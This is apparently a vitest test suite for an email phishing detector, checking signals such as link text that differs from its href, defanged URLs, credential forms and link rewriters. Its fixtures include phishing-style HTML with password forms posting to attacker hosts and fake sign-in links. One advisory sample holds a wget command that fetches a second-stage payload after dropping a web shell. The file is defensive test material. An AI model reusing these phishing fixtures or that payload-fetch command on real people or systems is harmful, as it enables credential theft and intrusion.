import { describe, expect, it } from 'vitest';
import { analyzeEmail } from '../../src/email/index.js';
import { eml } from '../helpers/eml.js';
import { expectAbsent, expectFires } from '../helpers/verdict.js';

const scan = (html: string, text?: string) =>
  analyzeEmail(eml({ html, ...(text ? { text } : {}) }), { scorer: null });

describe('email.link.text_href_mismatch', () => {
  const ID = 'email.link.text_href_mismatch';
  it('fires when the text shows one site and the link goes to another', async () => {
    const v = await scan(
      '<p><a href="http://198.51.100.23/owa/login.php">https://login.microsoftonline.com/</a></p>',
    );
    expect(expectFires(v, ID)).toMatchObject({
      severity: 'high',
      evidence: [
        {
          where: 'body:html',
          text: '"https://login.microsoftonline.com/" -> http://198.51.100.23/owa/login.php',
        },
      ],
    });
    const v2 = await scan('<a href="https://secure-login.attacker.example/pp">www.paypal.com</a>');
    expect(expectFires(v2, ID).message).toContain('paypal.com');
  });
  it("reads the shown site through a broken kit's leftover tag", async () => {
    const v = await scan(
      '<a href="http://pcp0010757238pcs.howard01.md.comcast.example/.eBay/index.htm">http://signin.ebay.com/eBayISAPI.dll?SignIn&amp;ssPageName=h:h:sin:US\\" ></a>',
    );
    expect(expectFires(v, ID).message).toContain('ebay.com');
  });
  it('reads no site from words with a quote at the end', async () => {
    expectAbsent(await scan('<a href="https://tracker.example/x">Read "more" </a>'), ID);
  });
  it.each([
    ['click tracking on the same company', '<a href="https://click.shop.example/t/abc">www.shop.example</a>'],
    ['a subdomain of the shown site', '<a href="https://www.bank.example/login">bank.example</a>'],
    ['ordinary words as link text', '<a href="https://tracker.example/x">Read more</a>'],
    ['an email address as text', '<a href="mailto:help@shop.example">help@shop.example</a>'],
  ])('stays silent for %s', async (_, html) => {
    expectAbsent(await scan(html), ID);
  });
});

describe('email.link.obfuscated_url', () => {
  const ID = 'email.link.obfuscated_url';
  it('fires on defanged URLs a reader would re-arm', async () => {
    const v = await analyzeEmail(
      eml({ text: 'Open hxxps://invoice-portal[.]attacker.example/view to see it.' }),
    );
    expect(expectFires(v, ID)).toMatchObject({
      severity: 'medium',
      evidence: [{ where: 'body:text', text: 'https://invoice-portal.attacker.example/view' }],
    });
  });
  it("is info in a security team's phishing-report reply, whose defanged indicators are not judged as links", async () => {
    const v = await analyzeEmail(
      eml({
        from: 'Security Operations <soc@contoso.example>',
        to: 'alex@contoso.example',
        subject: 'Thanks for reporting: "Your mailbox is almost full"',
        text: 'Thanks for using the Report Phish button. The message you reported:\n  From: it-desk@mail-contoso[.]example\n  Link: hxxps://contoso-mail-upgrade[.]web[.]app/quota\nVerdict: credential phishing. We removed it from 41 mailboxes.',
      }),
    );
    expect(expectFires(v, ID).severity).toBe('info');
    // not clickable: no page check reads the quoted address
    expectAbsent(v, 'email.link.sign_in_on_free_host');
    expectAbsent(v, 'url.host.free_hosting');
    expect(v.verdict).toBe('clean');
  });
  it('stays silent for ordinary URLs and brackets', async () => {
    const v = await analyzeEmail(eml({ text: 'See https://docs.sender.example/guide [1] and (see above).' }));
    expectAbsent(v, ID);
  });
  it('fires on a line break or tab written inside an href or a form action (browsers drop them)', async () => {
    for (const html of [
      '<a href="http://rds.yaho&#010;o.example/*http://www&#009;.landing.example/url">Update</a>',
      '<form action="http://rds.yaho&#010;o.example/post"><input name="card"></form>',
      '<a href="http://%31%39%35%2E%31%34%36%2E%39%39%2E%31%38%30:%38%37/%73%74/index.htm">SunTrust Online</a>',
    ]) {
      const s = expectFires(await scan(html), ID);
      expect(s.message).toContain('tabs, line breaks or percent-escapes');
      expect(s.severity).toBe('medium');
    }
  });
  it('stays silent for an href with a line break only before or after the address', async () => {
    expectAbsent(await scan('<a href="\n  https://docs.sender.example/guide\n">Guide</a>'), ID);
  });
  it('reads the destination a link rewriter carries', async () => {
    const dest = 'http://%31%39%35%2E%31%34%36%2E%39%39%2E%31%38%30:%38%37/st/index.htm';
    const wrapped = `https://nam12.safelinks.protection.outlook.com/?url=${encodeURIComponent(dest)}&amp;data=x`;
    expectFires(await scan(`<a href="${wrapped}">SunTrust Online</a>`), ID);
  });
  it('stays silent for percent-escapes in the path or query only', async () => {
    expectAbsent(await scan('<a href="https://docs.sender.example/a%20guide?q=caf%C3%A9">Guide</a>'), ID);
  });
});

describe('email.link.form_in_body', () => {
  const ID = 'email.link.form_in_body';
  it('is critical for a form with a password field', async () => {
    const v = await scan(
      '<form action="https://collect.attacker.example/p.php"><input name="u"><input type="password" name="p"></form>',
    );
    expect(expectFires(v, ID)).toMatchObject({ severity: 'critical' });
    expect(v.score).toBeGreaterThanOrEqual(0.95);
  });
  it('is high for another submitting form', async () => {
    const v = await scan('<form action="https://survey.attacker.example/s"><input name="card"></form>');
    expect(expectFires(v, ID).severity).toBe('high');
  });
  it('stays silent without a form', async () => {
    expectAbsent(await scan('<p>Reply to this email to answer the survey.</p>'), ID);
  });
  it('is high for two fields, whatever they are named', async () => {
    const v = await scan(
      '<form action="https://survey.attacker.example/s"><input name="q"><input type="email" name="email"></form>',
    );
    expect(expectFires(v, ID)).toMatchObject({
      severity: 'high',
      evidence: [
        { text: '<form action="https://survey.attacker.example/s"> with 2 input(s) (text:q, email:email)' },
      ],
    });
  });
  it.each([
    [
      "a weather newsletter's city search posting to the brand's other site",
      '<form name="searchform" action="http://www.weather-brand.example/search.htm" method="POST"><input type="text" name="recherche" size="15"><input type="image" name="submit" src="http://www.weather-brand.example/go.gif"></form>',
    ],
    [
      "a newsletter's sign-up box at its mail service",
      '<form action="http://ui.mail-service.example/d.jsp" method="post"><input name="m" type="hidden" value="1101264382870"><input name="p" type="hidden" value="oi"><input name="ea" size="15" type="text"><input type="submit" value="Join"></form>',
    ],
    [
      'a form of buttons and choices',
      '<form><input type="hidden" name="source" value="news"><input type="radio" name="sites" value="web" checked><input type="radio" name="sites" value="news"><input type="submit" value="SEARCH"></form>',
    ],
  ])('shows %s at low, which asks for nothing', async (_, html) => {
    const v = await scan(html);
    expect(expectFires(v, ID).severity).toBe('low');
    expect(v.explanation?.gate?.ask ?? false).toBe(false);
  });
});

describe('email.link.meta_refresh and email.link.script_url', () => {
  it('fires on a meta refresh', async () => {
    const v = await scan('<meta http-equiv="refresh" content="0; url=https://landing.attacker.example/">hi');
    expect(expectFires(v, 'email.link.meta_refresh').evidence[0]?.text).toBe(
      'https://landing.attacker.example/',
    );
  });
  it('fires high on data: links, low on javascript: links, and not on data: images', async () => {
    const v = await scan('<a href="javascript:location=\'https://x.attacker.example\'">Open</a>');
    // mail clients do not run javascript: links (2007 newsletters used them for pop-ups): context only
    expect(expectFires(v, 'email.link.script_url').severity).toBe('low');
    const data = await scan(
      '<a href="javascript:void(0)">a</a><a href="data:text/html;base64,PGgxPkxvZ2luPC9oMT4=">Open the document</a>',
    );
    expect(expectFires(data, 'email.link.script_url')).toMatchObject({
      severity: 'high',
      evidence: [
        { text: '"Open the document" -> data:text/html;base64,PGgxPkxvZ2luPC9oMT4=' },
        { text: '"a" -> javascript:void(0)' },
      ],
    });
    const img = await scan('<img src="data:image/png;base64,iVBORw0KGgo=">');
    expectAbsent(img, 'email.link.script_url');
    expectAbsent(img, 'email.link.meta_refresh');
  });
});

// ---- link rewriters: the destination is judged, the gateway's host is not evidence
const enc = encodeURIComponent;
const ppV2 = (u: string) =>
  enc(u)
    .replace(/%2F/g, '/')
    .replace(/-/g, '%2D')
    .replace(/_/g, '%5F')
    .replace(/%/g, '-')
    .replace(/\//g, '_');
const REWRITERS: [string, (dest: string) => string][] = [
  [
    'safelinks',
    (d) =>
      `https://nam12.safelinks.protection.outlook.com/?url=${enc(d)}&data=05%7C02%7Cx&sdata=AbC%3D&reserved=0`,
  ],
  ['proofpoint v1', (d) => `https://urldefense.proofpoint.com/v1/url?u=${enc(d)}&k=abc%3D%0A&r=x`],
  [
    'proofpoint v2',
    (d) => `https://urldefense.proofpoint.com/v2/url?u=${ppV2(d)}&d=DwMFaQ&c=abc&r=def&m=ghi&s=jkl&e=`,
  ],
  ['proofpoint v3', (d) => `https://urldefense.com/v3/__${d}__;!!ABcdEF!GhIjKl$`],
  ['barracuda', (d) => `https://linkprotect.cudasvc.com/url?a=${enc(d)}&c=E,1,AbCd,&typo=1`],
  ['google', (d) => `https://www.google.com/url?q=${enc(d)}&sa=D&ust=1&usg=AOvVaw0`],
  [
    'trend micro',
    (d) => `https://imsva91-ctp.trendmicro.com/wis/clicktime/v1/query?url=${enc(d)}&umid=0a1b&auth=abc`,
  ],
  [
    'sophos',
    (d) =>
      `https://eu-central-1.protection.sophos.com?d=shop.example&u=${Buffer.from(d).toString('base64')}&i=a&t=b&h=c`,
  ],
  ['cisco', (d) => `https://secure-web.cisco.com/1AbCdEfGhIj/${enc(d)}`],
];
const SEV = ['info', 'low', 'medium', 'high', 'critical'];
/** Link, URL and domain signals at medium or above (what issue 9 says legitimate mail must not get). */
const strongLinkSignals = (v: { signals: { id: string; severity: string }[] }) =>
  v.signals
    .filter((s) => /^(email\.link|url|domain)\./.test(s.id) && SEV.indexOf(s.severity) >= 2)
    .map((s) => `${s.id}:${s.severity}`);

describe('email.link.text_href_mismatch and click trackers', () => {
  const ID = 'email.link.text_href_mismatch';
  it.each([
    [
      'an opaque tracker path',
      '<a href="http://clicks.mailservice.example/z/ct/?zWDOe9s9xz">http://www.internetpatrol.example</a>',
    ],
    [
      'a tracker that carries the shown URL',
      '<a href="http://rs6.example/tn.jsp?t=ipfoc9&p=http%3A%2F%2Fwww.genesearch.example">http://www.genesearch.example</a>',
    ],
    [
      'a tracking proxy',
      '<a href="http://cmgr.netcontent.example/chandler/proxy.aspx?lid=2F5296B8">www.infocast.example</a>',
    ],
    [
      "a site shown over its parent brand's domain",
      '<a href="http://www.newsnet.example/money/">NewsNetMoney.example</a>',
    ],
  ])('is context (low) for %s in front of an unprotected site', async (_, html) => {
    const v = await scan(html);
    expect(expectFires(v, ID)).toMatchObject({
      severity: 'low',
      message: expect.stringContaining('click tracker'),
    });
  });
  it.each([
    [
      'a protected brand shown over a tracker-shaped link',
      '<a href="http://clicks.mailservice.example/z/ct/?abc">https://www.paypal.com/signin</a>',
    ],
    [
      'an IP address behind a tracker-shaped path',
      '<a href="http://198.51.100.9/track/click?id=1">http://www.genesearch.example</a>',
    ],
    ['a plain link elsewhere', '<a href="http://evil.example/login.php">http://www.mybank.example</a>'],
    [
      "the shown site's name written into another host's path",
      '<a href="http://mybank-service.freehost.example/online~mybankpersonal~mybank.example/">https://login.mybank.example/logon</a>',
    ],
  ])('stays high for %s', async (_, html) => {
    expect(expectFires(await scan(html), ID).severity).toBe('high');
  });
  it('compares the destination with the text that shows a site when one href has several texts', async () => {
    // the logo links first, with no text; the later copy of the same href shows paypal.com
    const v = await scan(
      '<a href="http://203.0.113.9/.ssl/index.html"><img src="https://www.paypal.com/logo.gif"></a>' +
        '<a href="http://203.0.113.9/.ssl/index.html">Click here</a>' +
        '<a href="http://203.0.113.9/.ssl/index.html">https://www.paypal.com/us/</a>',
    );
    expect(expectFires(v, ID)).toMatchObject({
      severity: 'high',
      message: expect.stringContaining('paypal.com'),
    });
  });
  it('lets the worst link decide when trackers and a real mismatch mix', async () => {
    const v = await scan(
      '<a href="http://clicks.mailservice.example/z/ct/?a">http://www.news.example</a><a href="http://evil.example/x">https://www.paypal.com/</a>',
    );
    expect(expectFires(v, ID)).toMatchObject({
      severity: 'high',
      evidence: [
        { text: expect.stringContaining('evil.example') },
        { text: expect.stringContaining('mailservice') },
      ],
    });
  });
});

describe('links behind link rewriters', () => {
  const phish = 'http://198.51.100.23/owa/login.php';
  it('still flags a phishing destination behind Safe Links, naming the wrapper in the evidence', async () => {
    const v = await scan(`<a href="${REWRITERS[0]![1](phish)}">https://login.microsoftonline.com/</a>`);
    expect(expectFires(v, 'url.host.ip_literal').evidence[0]?.text).toBe(`${phish} (via safelinks)`);
    expect(expectFires(v, 'email.link.text_href_mismatch').message).toContain('198.51.100.23');
    expect(v.verdict).not.toBe('clean');
  });
  it.each(REWRITERS)(
    'keeps a benign destination behind %s as clean as without the wrapper',
    async (_, wrap) => {
      const dests = [
        'https://www.shop.example/orders/1234',
        'https://click.mail.shop.example/ls/click?upn=abc123',
        'https://www.shop.example/email/preferences?u=8f3a2b',
      ];
      const html = (w: (d: string) => string) =>
        `<p>Your order has shipped.</p><p><a href="${w(dests[0]!)}">www.shop.example</a> · <a href="${w(dests[1]!)}">Track it</a> ·
       <a href="${w(dests[2]!)}">Manage preferences</a></p>`;
      const from = 'Shop <orders@shop.example>';
      const plain = await analyzeEmail(eml({ from, html: html((d) => d) }), { scorer: null });
      const wrapped = await analyzeEmail(eml({ from, html: html(wrap) }), { scorer: null });
      const ids = (v: typeof plain) => v.signals.map((s) => `${s.id}:${s.severity}`).sort();
      expect(ids(wrapped)).toEqual(ids(plain));
      expect(strongLinkSignals(wrapped)).toEqual([]);
      expect(wrapped.verdict).toBe('clean');
    },
  );
  it('treats an opaque Mimecast link as unknown: no mismatch with its text, no signal', async () => {
    const v = await scan(
      '<a href="https://protect-eu.mimecast.com/s/AbCdEfGhIjKlMnOp?domain=shop.example">www.shop.example</a>',
    );
    expect(v.signals.filter((s) => /^(email\.link|url|domain)\./.test(s.id))).toEqual([]);
  });
});

// ---- issue 9: legitimate mail that looks like phishing to a naive check (shipped URL and domain models)
describe('legitimate look-alikes get no link signal of medium or higher', () => {
  it.each([
    [
      'a newsletter with search and subscribe forms to its own domain',
      'News <news@shop.example>',
      `<h1>Spring picks</h1><form action="https://www.shop.example/search" method="get"><input name="q"><button>Search</button></form>
       <form action="https://lists.shop.example/subscribe" method="post"><input type="email" name="email"><button>Subscribe</button></form>
       <a href="https://www.shop.example/unsubscribe?u=8f3a2b">Unsubscribe</a>`,
    ],
    [
      "a password reset on the sender's own domain",
      'Shop <no-reply@shop.example>',
      `<p>Someone asked to reset your password.</p><a href="https://account.shop.example/login/reset-password?token=9f8e7d6c5b4a3f2e1d0c">Reset password</a>
       <p>Not you? <a href="https://www.shop.example/help">www.shop.example</a></p>`,
    ],
    [
      'Microsoft mail linking to its sign-in, short-link and Office domains',
      'Microsoft account team <account-security-noreply@accountprotection.microsoft.com>',
      `<p>Security info was added to your account.</p>
       <a href="https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=4765445b&response_type=code&scope=openid">Review sign-in</a>
       <a href="https://aka.ms/MFASetup">Set up verification</a> <a href="https://www.office.com/?auth=2">www.office.com</a>
       <a href="https://account.microsoft.com/security">account.microsoft.com</a>`,
    ],
    [
      'PayPal mail linking to paypal.com and paypal-communication.com',
      'PayPal <service@paypal.com>',
      `<p>You sent a payment.</p><a href="https://www.paypal.com/signin?returnUri=%2Fmyaccount%2Ftransactions">Log in to PayPal</a>
       <a href="https://www.paypal-communication.com/r/LRH6JSSC/P0D7J/MF2DN/QY5W8/A4A/t">www.paypal.com</a>`,
    ],
    [
      'Amazon mail linking to amazon.co.uk',
      'Amazon.co.uk <auto-confirm@amazon.com>',
      `<p>Your order has been dispatched.</p><a href="https://www.amazon.co.uk/gp/css/order-history?ref_=pe_your_orders">Your orders</a>
       <a href="https://www.amazon.co.uk/ap/signin?openid.return_to=https%3A%2F%2Fwww.amazon.co.uk%2Fyour-account">www.amazon.com</a>`,
    ],
  ])('%s', async (_, from, html) => {
    const v = await analyzeEmail(eml({ from, subject: 'Your account', html }), { scorer: null });
    expect(strongLinkSignals(v)).toEqual([]);
  });

  it('shows a search box posting to another site, flags a one-field code form and any password form', async () => {
    // a query is not what an attacker collects: shown (low), not an ask; where it posts is a link
    const away = await analyzeEmail(
      eml({
        from: 'News <news@shop.example>',
        html: '<form action="https://collect.attacker.example/s"><input name="q"></form>',
      }),
      { scorer: null },
    );
    expect(expectFires(away, 'email.link.form_in_body').severity).toBe('low');
    const code = await analyzeEmail(
      eml({
        from: 'News <news@shop.example>',
        html: '<form action="https://collect.attacker.example/s"><input name="otp" type="tel"><input type="submit"></form>',
      }),
      { scorer: null },
    );
    expect(expectFires(code, 'email.link.form_in_body').severity).toBe('high');
    const pw = await analyzeEmail(
      eml({
        from: 'Shop <no-reply@shop.example>',
        html: '<form action="https://account.shop.example/login"><input name="u"><input type="password" name="p"></form>',
      }),
      { scorer: null },
    );
    expect(expectFires(pw, 'email.link.form_in_body').severity).toBe('critical');
  });
});

describe("a link's shown text and its real destination are kept apart (issue 15, item 2)", () => {
  const html =
    '<p>Sign in: <a href="javascript:location=\'http://198.51.100.9/pp\'">https://www.paypal.com/signin</a></p>';
  it('judges the destination, not the URL written as the link text', async () => {
    const v = await scan(html);
    // the real paypal.com page in the text is what the reader is shown: it is no evidence itself
    expect(v.signals.map((s) => s.id)).not.toContain('url.path.credential_words');
    expect(expectFires(v, 'email.link.script_url')).toMatchObject({
      message: 'Link shows www.paypal.com but its destination is a javascript: URL',
      evidence: [
        {
          where: 'body:html',
          text: `"https://www.paypal.com/signin" -> javascript:location='http://198.51.100.9/pp'`,
        },
      ],
    });
  });
  it("still judges a URL that is written in the text and is not any link's shown text", async () => {
    const v = await scan('<p>Sign in at http://198.51.100.9/login/verify today</p>');
    expect(v.signals.map((s) => s.id)).toContain('url.host.ip_literal');
  });
});

describe('email.link.brand_links_elsewhere', () => {
  const ID = 'email.link.brand_links_elsewhere';
  const from = (address: string, html: string) =>
    analyzeEmail(eml({ from: address, subject: 'Account notice', html }), { scorer: null });
  it("fires when From is a brand's own domain and every link goes elsewhere", async () => {
    const v = await from(
      'eBay <aw-confirm@ebay.com>',
      '<p>Update your billing information <a href="http://198.51.100.128/ebay/login.php">here</a>.</p>',
    );
    expect(expectFires(v, ID)).toMatchObject({
      severity: 'medium',
      message: expect.stringContaining('eBay'),
    });
  });
  it.each([
    [
      'the brand linking to its own site',
      'PayPal <service@paypal.com>',
      '<a href="https://www.paypal.com/signin">Sign in</a>',
    ],
    [
      "a Google Docs share (the brand's user-content host)",
      'Google Docs <drive-shares-noreply@google.com>',
      '<a href="https://docs.google.com/document/d/abc/edit">Open</a>',
    ],
    [
      "a brand's mail through a tracker that carries its address",
      'PayPal <service@paypal.com>',
      '<a href="https://track.mailer.example/c?u=https%3A%2F%2Fwww.paypal.com%2Factivity">Activity</a>',
    ],
    [
      "a brand's mail through an opaque mail-service tracker",
      'Netflix <info@netflix.com>',
      '<a href="https://u123.ct.sendgrid.net/ls/click?upn=abc">Watch now</a>',
    ],
    [
      'a person on a free mail domain sharing a link',
      'Jane <jane.doe@gmail.com>',
      '<a href="https://news.example/story">story</a>',
    ],
    [
      "the brand's own sign-in link beside a partner's page",
      'eBay <ebay@ebay.com>',
      '<a href="https://signin.ebay.com/ws/eBayISAPI.dll?SignIn">Sign in</a> <a href="https://blog.partner.example/spring-sale">Our partner</a>',
    ],
    [
      "the brand's links beside another listed brand's sign-in page",
      'eBay <ebay@ebay.com>',
      '<a href="https://www.ebay.com/help">Help</a> <a href="https://www.paypal.com/signin">Pay with PayPal</a>',
    ],
  ])('stays silent for %s', async (_, address, html) => {
    expectAbsent(await from(address, html), ID);
  });
  it("fires when the brand's own links surround a sign-in link on a stranger's host", async () => {
    const v = await from(
      'eBay <aw-confirm@ebay.com>',
      '<a href="http://pages.ebay.com/help/">Help</a> <a href="http://pages.ebay.com/help/policies/privacy-policy.html">Privacy</a>' +
        '<p>Please <a href="http://confirm-ebaymain.example/signin/eBayISAPI.dll?VerifyRegistration">verify your account</a>.</p>',
    );
    expect(expectFires(v, ID).message).toContain('sign-in link goes to confirm-ebaymain.example');
  });
  it("fires when the brand's own links surround a page on a stranger's site whose path names the brand", async () => {
    const v = await from(
      'eBay Security <security@ebay.com>',
      '<a href="http://www.ebay.com/">eBay</a> <a href="http://pages.ebay.com/community/aboutebay/index.html">About</a>' +
        '<p>Complete <a href="http://addon.school.example/manual/mod/.eBay/index.html">the following form</a>.</p>',
    );
    expect(expectFires(v, ID).message).toContain('goes to addon.school.example');
  });
  it.each([
    [
      "the brand's social profile on a listed network",
      '<a href="https://www.facebook.com/ebay">Follow us</a>',
    ],
    [
      'a partner page whose path only contains the letters',
      '<a href="https://blog.partner.example/debaye-notes">Notes</a>',
    ],
  ])("stays silent for the brand's own links beside %s", async (_, extra) => {
    const v = await from('eBay <ebay@ebay.com>', `<a href="https://www.ebay.com/help">Help</a> ${extra}`);
    expectAbsent(v, ID);
  });
});

describe('a link to a machine named after its IP address (url.host.ip_in_name)', () => {
  it('with a sign-in ask, flags the message', async () => {
    const v = await analyzeEmail(
      eml({
        from: 'Mail Administrator <admin@mailhost.example>',
        subject: 'Your mailbox password expires today',
        html: '<p>Your password expires today. Keep your current password here:</p><p><a href="http://ec2-3-138-125-44.us-east-2.compute.amazonaws.com/owa/">Keep my password</a></p>',
      }),
      { scorer: null },
    );
    expect(expectFires(v, 'url.host.ip_in_name').message).toContain('3.138.125.44');
    expect(v.verdict).not.toBe('clean');
  });
  it('in a colleague’s note about a test server, stays clean', async () => {
    const v = await analyzeEmail(
      eml({
        from: 'Dana Ops <dana@recipient.example>',
        to: 'Bob Example <bob@recipient.example>',
        subject: 'staging box is back',
        text: 'Hi Bob,\n\nThe staging instance is up again at http://ec2-3-138-125-44.us-east-2.compute.amazonaws.com:8080/health if you want to rerun the suite.\n\nDana',
      }),
      { scorer: null },
    );
    expect(v.verdict).toBe('clean');
  });
});

describe("email.link.text_href_mismatch: the sender's short domain shown over its long one", () => {
  const ID = 'email.link.text_href_mismatch';
  const mail = (from: string) =>
    analyzeEmail(
      eml({
        from,
        to: 'traveller@mail.example',
        subject: 'Your boarding pass',
        html: '<p>Manage your booking at <a href="https://www.britishairways.com/travel/managebooking/public/en_gb">ba.com/manage</a></p>',
      }),
      { scorer: null },
    );
  it("is low when the href is the domain spelt as the sender's name and the text shows the sender's domain", async () => {
    expect(expectFires(await mail('British Airways <ba@email.ba.com>'), ID).severity).toBe('low');
  });
  it('stays high when someone else shows that address', async () => {
    expect(expectFires(await mail('Travel Desk <desk@travel-desk.example>'), ID).severity).toBe('high');
  });
});

describe('email.link.obfuscated_url in a security advisory', () => {
  const ID = 'email.link.obfuscated_url';
  const advisory = (subject: string) =>
    analyzeEmail(
      eml({
        from: 'Research <advisories@research.example>',
        to: 'list@lists.example',
        subject,
        text: 'We have observed exploitation dropping a web shell and fetching a second stage with:\n\n  wget -q -O /tmp/.x hxxp://185.0.2[.]44/k',
      }),
      { scorer: null },
    );
  it('is info when the advisory names its CVE', async () => {
    expect(expectFires(await advisory('[HSA-2026-014] Pagefold CMS RCE (CVE-2026-31877)'), ID).severity).toBe(
      'info',
    );
  });
  it('stays medium in a message that is no advisory', async () => {
    expect(expectFires(await advisory('Your files'), ID).severity).toBe('medium');
  });
});

describe('email.link.obfuscated_url in a warning written with a compound ("phishingmail")', () => {
  it('is info in a Dutch alert about a phishing mail', async () => {
    const v = await analyzeEmail(
      eml({
        from: 'Alert <alert@waarschuwingsdienst.example>',
        to: 'reader@example.nl',
        subject: 'Waarschuwing: nep-belastingmail',
        text: 'Er gaat een phishingmail rond uit naam van de Belastingdienst. De links gaan naar hxxps://belastingdienst-teruggave[.]info/aanvraag. Klik er niet op.',
      }),
      { scorer: null },
    );
    expect(expectFires(v, 'email.link.obfuscated_url').severity).toBe('info');
  });
});
